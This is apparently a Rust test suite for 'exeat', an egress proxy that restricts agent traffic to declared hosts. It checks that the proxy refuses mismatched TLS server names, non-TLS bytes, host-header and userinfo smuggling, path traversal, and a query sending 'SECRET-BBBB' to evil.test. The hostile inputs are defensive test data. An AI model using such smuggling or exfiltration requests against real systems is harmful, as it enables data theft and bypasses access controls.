//! Tunnels that exeat opens: whose name is in the handshake, which certificate answers, and what HTTP speaks inside.

use std::io::{Read as _, Write as _};
use std::sync::Arc;

use bytes::Bytes;
use http::{Request, Version};
use http_body_util::{BodyExt, Full};
use hyper::client::conn::http2::{self, SendRequest};
use hyper_util::rt::{TokioExecutor, TokioIo};
use rustls::StreamOwned;
use rustls_pki_types::ServerName;
use tokio_rustls::TlsConnector;

use crate::world::{Client, World, json_reply, read_answer, read_head, rest};

const CONNECT: &str = "CONNECT api.good.test:443 HTTP/1.1\r\nHost: api.good.test:443\r\n\r\n";

/// The first flight of a client that asks for this server.
fn hello(client: &Client, server_name: &str) -> Vec<u8> {
    let mut bytes = Vec::new();
    let mut session = client.session(server_name, &["http/1.1"]);
    session.write_tls(&mut bytes).unwrap();
    bytes
}

/// The same flight, for another name of the same length.
fn renamed(client: &Client, from: &str, to: &[u8]) -> Vec<u8> {
    let mut bytes = hello(client, from);
    let found = bytes
        .windows(from.len())
        .position(|it| it == from.as_bytes());
    let at = found.unwrap();
    bytes[at..at + from.len()].copy_from_slice(to);
    bytes
}

/// What comes back in the tunnel for these bytes, up to its end.
fn answer_to(client: &Client, bytes: &[u8]) -> Vec<u8> {
    let (answer, mut stream) = client.open("api.good.test:443", &[]);
    assert_eq!(answer.status, 200);
    stream.write_all(bytes).unwrap();
    let _ = stream.shutdown(std::net::Shutdown::Write);
    let mut back = Vec::new();
    let _ = stream.read_to_end(&mut back);
    back
}

#[test]
fn another_server_name_gets_an_alert_and_reaches_nobody() {
    let fatal = |code| [&[21, 3, 3, 0, 2, 2][..], &[code]].concat();
    let (unrecognized_name, missing_extension) = (fatal(112), fatal(109));
    let host = "api.good.test";
    type Case<'a> = (&'a dyn Fn(&Client) -> Vec<u8>, Vec<u8>);
    let cases: [Case<'_>; 7] = [
        (&|it| hello(it, "evil.test"), unrecognized_name.clone()),
        (&|it| hello(it, "api.two.test"), unrecognized_name.clone()),
        (
            &|it| hello(it, "x.api.good.test"),
            unrecognized_name.clone(),
        ),
        (&|it| hello(it, "203.0.114.10"), missing_extension),
        (&|it| renamed(it, host, b"api.good.tes\0"), vec![]),
        (&|it| renamed(it, host, b"api\0good.test"), vec![]),
        (&|it| renamed(it, host, b"203.0.114.010"), vec![]),
    ];
    for (bytes, alert) in cases {
        let mut world = World::usual();
        let back = answer_to(&world.client(), &bytes(&world.client()));
        let shown = format!("{back:x?}");
        if alert.is_empty() {
            assert_eq!(back.first(), Some(&21), "{shown}");
        } else {
            assert_eq!(back, alert);
        }
        world.assert_nothing_left();
        let records = world.last_records();
        assert_eq!(records.len(), 1, "{records:#?}");
        assert_eq!(records[0]["method"], "CONNECT");
        assert_ne!(records[0]["decision"], "allowed");
        if !alert.is_empty() {
            assert_eq!(records[0]["code"], "server_name_mismatch", "{}", records[0]);
        }
    }
}

#[test]
fn a_server_name_in_other_letters_is_the_same_host() {
    let world = World::usual();
    let origin = world.origin("api.good.test", |_| json_reply("{}"));
    let client = world.client();
    // rustls's client writes names in lower case and without the root's dot, so others' hellos are made by hand.
    let upper = renamed(&client, "api.good.test", b"API.Good.TEST");
    let (_, mut stream) = client.open("api.good.test:443", &[]);
    stream.write_all(&upper).unwrap();
    let mut first = [0; 6];
    stream.read_exact(&mut first).unwrap();
    assert_eq!((first[0], first[5]), (22, 2), "a ServerHello");
    assert_eq!(origin.connections(), 0);
}

#[test]
fn what_is_not_tls_is_closed_and_reaches_nobody() {
    for bytes in [
        &b"SSH-2.0-x\r\n"[..],
        b"GET /v1/items/1 HTTP/1.1\r\nHost: api.good.test\r\n\r\n",
        b"GET http://api.good.test/v1/items/1 HTTP/1.1\r\nHost: api.good.test\r\n\r\n",
        b"CONNECT api.good.test:443 HTTP/1.1\r\nHost: api.good.test:443\r\n\r\n",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"EHLO x\r\n",
        b"\0\0\0\x08\x04\xd2\x16\x2f",
        b"\x05\x01\0",
        b"\x80\x2e\x01\x03\x01",
        b"\x16\x03\x01\0\x05hello",
        b"\x16\x03\x01\xff\xff",
        b"\x15\x03\x01\0\x02\x02\x28",
        b"\x17\x03\x03\0\x01x",
        b"\0",
    ] {
        let mut world = World::usual();
        let back = answer_to(&world.client(), bytes);
        assert!(!back.starts_with(b"HTTP"), "{bytes:x?}: {back:x?}");
        world.assert_nothing_left();
        let records = world.last_records();
        assert_eq!(records.len(), 1, "{bytes:x?}: {records:#?}");
        assert_eq!(
            records[0]["code"], "tls_expected",
            "{bytes:x?}: {}",
            records[0]
        );
    }
}

#[test]
fn a_hello_is_understood_however_it_is_cut() {
    let world = World::usual();
    let origin = world.origin("api.good.test", |_| json_reply("{}"));
    for (segment, at_once) in [
        (1, false),
        (7, false),
        (100_000, false),
        (100_000, true),
        (1, true),
    ] {
        let client = world.client();
        let mut session = client.session("api.good.test", &["http/1.1"]);
        let mut first = Vec::new();
        session.write_tls(&mut first).unwrap();
        let mut stream = client.connect();
        let connect = CONNECT.as_bytes();
        if at_once {
            stream.write_all(&[connect, &first[..20]].concat()).unwrap();
            first.drain(..20);
        } else {
            stream.write_all(connect).unwrap();
        }
        for piece in first.chunks(segment) {
            stream.write_all(piece).unwrap();
        }
        assert_eq!(read_head(&mut stream).unwrap().status, 200);
        let mut tunnel = StreamOwned::new(session, stream);
        write!(
            tunnel,
            "GET /v1/items/1 HTTP/1.1\r\nHost: api.good.test\r\n\r\n"
        )
        .unwrap();
        assert_eq!(
            read_answer(&mut tunnel, "GET").unwrap().status,
            200,
            "{segment} {at_once}"
        );
    }
    assert_eq!(origin.seen().len(), 5);
}

#[test]
fn a_hello_in_many_records_is_the_same_hello() {
    let world = World::usual();
    for size in [1, 10, 300] {
        let client = world.client();
        let whole = hello(&client, "api.good.test");
        let records: Vec<u8> = whole[5..]
            .chunks(size)
            .flat_map(|it| [&[22, 3, 1, 0, 0][..3], &(it.len() as u16).to_be_bytes(), it].concat())
            .collect();
        let (_, mut stream) = client.open("api.good.test:443", &[]);
        stream.write_all(&records).unwrap();
        let mut first = [0; 6];
        stream.read_exact(&mut first).unwrap();
        assert_eq!(
            (first[0], first[5]),
            (22, 2),
            "a ServerHello for records of {size}"
        );
    }
}

#[test]
fn a_protocol_is_chosen_that_both_speak_or_none() {
    for (offered, chosen) in [
        (&["h2", "http/1.1"][..], Some("h2")),
        (&["http/1.1", "h2"], Some("h2")),
        (&["http/1.1"], Some("http/1.1")),
        (&["foo", "http/1.1"], Some("http/1.1")),
    ] {
        let world = World::usual();
        let (_, mut stream) = world.client().open("api.good.test:443", &[]);
        let mut session = world.client().session("api.good.test", offered);
        session.complete_io(&mut stream).unwrap();
        assert_eq!(
            session.alpn_protocol(),
            chosen.map(str::as_bytes),
            "{offered:?}"
        );
    }
    for offered in ["http/1.0", "foo", "h2c", "http/2", "h3"] {
        let mut world = World::usual();
        let (_, mut stream) = world.client().open("api.good.test:443", &[]);
        let mut session = world.client().session("api.good.test", &[offered]);
        let failed = session.complete_io(&mut stream).unwrap_err().to_string();
        assert!(
            failed.contains("NoApplicationProtocol"),
            "{offered}: {failed}"
        );
        world.assert_nothing_left();
        let records = world.last_records();
        assert_eq!(
            (records.len(), &records[0]["decision"]),
            (1, &"failed".into())
        );
    }
}

#[test]
fn frames_are_not_read_as_http_1_and_the_other_way_round() {
    for (protocol, bytes) in [
        (
            "http/1.1",
            "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\u{4}\0\0\0\0\0",
        ),
        (
            "h2",
            "GET /v1/items/1 HTTP/1.1\r\nHost: api.good.test\r\n\r\n",
        ),
    ] {
        let mut world = World::usual();
        let (_, stream) = world.client().open("api.good.test:443", &[]);
        let session = world.client().session("api.good.test", &[protocol]);
        let mut tunnel = StreamOwned::new(session, stream);
        tunnel.write_all(bytes.as_bytes()).unwrap();
        let back = rest(&mut tunnel);
        assert!(!back.contains("HTTP/1.1 200"), "{back:?}");
        world.assert_nothing_left();
        let records = world.last_records();
        assert_eq!(records.len(), 1, "{protocol}: {records:#?}");
        assert_eq!(
            records[0]["decision"],
            if protocol == "h2" {
                "failed"
            } else {
                "refused"
            }
        );
    }
}

#[test]
fn a_leaf_has_one_name_and_is_for_servers_alone() {
    let world = World::usual();
    for host in ["api.good.test", "api.two.test", "evil.test"] {
        let mut tunnel = world.client().tunnel(host);
        tunnel.conn.complete_io(&mut tunnel.sock).unwrap();
        let chain = tunnel.conn.peer_certificates().unwrap();
        assert_eq!(chain.len(), 1, "the CA is in the clients' stores");
        let leaf = rustls::server::ParsedCertificate::try_from(&chain[0]).unwrap();
        for other in [
            "api.good.test",
            "api.two.test",
            "evil.test",
            "x.evil.test",
            "good.test",
        ] {
            let name = ServerName::try_from(other).unwrap();
            let fits = rustls::client::verify_server_name(&leaf, &name).is_ok();
            assert_eq!(fits, other == host, "{host} {other}");
        }
        let names = chain[0].windows(5).filter(|it| it == b".test").count();
        assert_eq!(
            names, 1,
            "the name stands nowhere else in the leaf of {host}"
        );
    }
}

#[test]
fn many_first_connects_at_once_share_one_leaf() {
    let world = Arc::new(World::usual());
    let clients: Vec<_> = (0..50)
        .map(|_| {
            let world = world.clone();
            std::thread::spawn(move || {
                let mut tunnel = world.client().tunnel("api.good.test");
                tunnel.conn.complete_io(&mut tunnel.sock).unwrap();
                tunnel.conn.peer_certificates().unwrap()[0].to_vec()
            })
        })
        .collect();
    let mut leaves: Vec<Vec<u8>> = clients.into_iter().map(|it| it.join().unwrap()).collect();
    leaves.dedup();
    assert_eq!(leaves.len(), 1);
    let minted = |line: &&str| line.starts_with("exeat_leaf_certificates_minted_total");
    let metrics = world.everything_written();
    let minted = metrics.lines().find(minted).unwrap();
    assert!(minted.ends_with(" 1"), "{minted}");
}

#[test]
fn an_undeclared_host_is_refused_inside_where_it_can_be_read() {
    let mut world = World::usual();
    let answer = world
        .client()
        .send_inside("GET", "https://evil.test/?q=SECRET-BBBB", &[], "");
    assert_eq!((answer.status, answer.refusal()), (403, "host_undeclared"));
    world.assert_nothing_left();
    let records = world.last_records();
    assert_eq!(records.len(), 1);
    assert_eq!(
        (&records[0]["host"], &records[0]["method"]),
        (&"evil.test".into(), &"GET".into())
    );
    assert!(records[0].get("path").is_none() && records[0].get("query").is_none());
}

#[test]
fn names_made_up_by_an_agent_cost_a_bounded_number_of_leaves() {
    let world = World::usual();
    let mut answers = (0..3_000).map(|number| {
        let (answer, _) = world
            .client()
            .open(&format!("r{number:04}.evil.test:443"), &[]);
        answer
    });
    // Sooner or later there are more than so many in a second, and the refusal comes without TLS.
    let refused = answers.find(|it| it.status != 200).unwrap();
    assert_eq!(
        (refused.status, refused.refusal()),
        (403, "host_undeclared")
    );
    // A declared host is not hurt by it.
    assert_eq!(world.client().open("api.good.test:443", &[]).0.status, 200);
    world.assert_nothing_left();
}

/// An HTTP/2 client in a tunnel, as libraries build one.
async fn http2(world: &World, host: &str) -> SendRequest<Full<Bytes>> {
    let (answer, stream) = world.client().open(&format!("{host}:443"), &[]);
    assert_eq!(answer.status, 200);
    stream.set_nonblocking(true).unwrap();
    let stream = tokio::net::TcpStream::from_std(stream).unwrap();
    let mut config = world.client().tls();
    config.alpn_protocols = vec![b"h2".to_vec()];
    let name = ServerName::try_from(host.to_owned()).unwrap();
    let stream = TlsConnector::from(Arc::new(config))
        .connect(name, stream)
        .await
        .unwrap();
    let handshake = http2::handshake(TokioExecutor::new(), TokioIo::new(stream));
    let (client, connection) = handshake.await.unwrap();
    tokio::spawn(connection);
    client
}

/// Status, refusal and body of a request on a stream of its own.
async fn stream(
    client: &mut SendRequest<Full<Bytes>>,
    request: http::request::Builder,
    body: &'static str,
) -> (u16, String, Bytes) {
    let request = request
        .version(Version::HTTP_2)
        .body(Full::from(body))
        .unwrap();
    client.ready().await.unwrap();
    let response = client.send_request(request).await.unwrap();
    let status = response.status().as_u16();
    let refusal = response.headers().get("exeat-refusal");
    let refusal = refusal.map_or("none", |it| it.to_str().unwrap()).to_owned();
    let body = response.into_body().collect().await.unwrap().to_bytes();
    (status, refusal, body)
}

#[tokio::test]
async fn http_2_inside_reaches_the_origin_and_each_stream_is_decided_by_itself() {
    let mut world = World::usual();
    let origin = world.origin("api.good.test", |seen| {
        json_reply(&format!("{:?}", seen.text()))
    });
    let mut client = http2(&world, "api.good.test").await;
    let url = "https://api.good.test/v1/items";
    let allowed = Request::get(format!("{url}/1")).header("authorization", "Bearer ATTACKER");
    assert_eq!(stream(&mut client, allowed, "").await.0, 200);
    for (request, status, code) in [
        (
            Request::get("https://api.two.test/me"),
            421,
            "host_mismatch",
        ),
        (
            Request::get("https://api.good.test:8443/v1/items/1"),
            421,
            "host_mismatch",
        ),
        (
            Request::get("https://api.good.test@evil.test/v1/items/1"),
            421,
            "host_mismatch",
        ),
        (
            Request::get("https://api.good.test:99999/v1/items/1"),
            421,
            "host_mismatch",
        ),
        (
            Request::get(format!("{url}/1")).header("host", "evil.test"),
            421,
            "host_mismatch",
        ),
        (
            Request::get("http://api.good.test/v1/items/1"),
            400,
            "request_malformed",
        ),
        (
            Request::get("https://api.good.test//evil.test/x"),
            400,
            "request_malformed",
        ),
        (
            Request::get(format!("{url}/1"))
                .header("host", "api.good.test")
                .header("host", "api.good.test"),
            400,
            "request_malformed",
        ),
        (
            Request::get(format!("{url}/1")).header("x", "tab\tinside"),
            400,
            "request_malformed",
        ),
        (
            Request::get(format!("{url}/1")).header("x", " a"),
            400,
            "request_malformed",
        ),
        (
            Request::get(format!("{url}/1")).header("x_y", "a"),
            400,
            "request_malformed",
        ),
        (
            Request::get(format!("{url}/../admin")),
            400,
            "path_not_canonical",
        ),
        (
            Request::get("https://api.good.test/admin"),
            403,
            "action_undeclared",
        ),
        (Request::connect("evil.test:443"), 405, "method_refused"),
        (Request::options(url), 405, "method_refused"),
    ] {
        let shown = format!("{request:?}");
        let (got, refusal, _) = stream(&mut client, request, "").await;
        assert_eq!((got, refusal.as_str()), (status, code), "{shown}");
    }
    let post = Request::post(url).header("content-type", "application/json");
    let (status, _, body) = stream(&mut client, post, r#"{"qty":1,"name":"a"}"#).await;
    assert_eq!(
        (status, &body[..]),
        (200, &br#""{\"name\":\"a\",\"qty\":1}""#[..])
    );
    for seen in origin.seen() {
        assert_eq!(seen.header("authorization"), ["Bearer SECRET-AAAA"]);
        assert_eq!(seen.header("host"), ["api.good.test"]);
    }
    assert_eq!((origin.seen().len(), world.dials().len()), (2, 1));
    drop(client);
    let records = world.last_records();
    assert_eq!(records.len(), 17, "{records:#?}");
    assert!(records.iter().all(|it| it["http_version"] == "HTTP/2.0"));
}
